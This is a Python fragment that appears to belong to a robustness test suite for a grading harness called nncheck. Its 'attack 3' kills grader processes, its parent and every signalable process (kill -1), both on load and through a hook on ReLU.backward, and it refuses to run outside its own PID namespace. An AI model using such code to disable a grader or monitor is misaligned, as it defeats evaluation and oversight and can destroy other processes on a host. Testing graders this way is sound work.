# ---- attack 3: kill the grader ----
# Kills every process whose command line mentions nncheck (but itself), its
# parent, and then everything it may signal (kill -1): at load time and again
# inside ReLU.backward. Only inside a PID namespace of its own (see _prelude).
import signal as _signal


def _kill_everything(tag):
    if not _in_own_pid_namespace():
        _emit("REFUSED", tag, "not in a PID namespace of its own: would hit the test host", key=True)
        return 0
    me, hits = _os.getpid(), []
    for pid in _pids():
        if pid != me and b"nncheck" in (_read(f"/proc/{pid}/cmdline") or b""):
            try:
                _os.kill(pid, _signal.SIGKILL)
                hits.append(pid)
            except OSError as exc:
                _emit("KILL-FAIL", tag, pid, type(exc).__name__, key=True)
    for what, pid in (("parent", _os.getppid()), ("all", -1)):
        try:
            _os.kill(pid, _signal.SIGKILL)
            hits.append(what)
        except OSError as exc:
            _emit("KILL-FAIL", tag, what, type(exc).__name__, key=True)
    _emit("KILLED", tag, hits, key=True)
    return len(hits)


_ATTACK_RESULT = _kill_everything("load")
_HOOKED = _hook_method(ReLU, "backward", lambda: _kill_everything("probe"))
_DONE = _emit("ATTACK-DONE", "load", key=True)
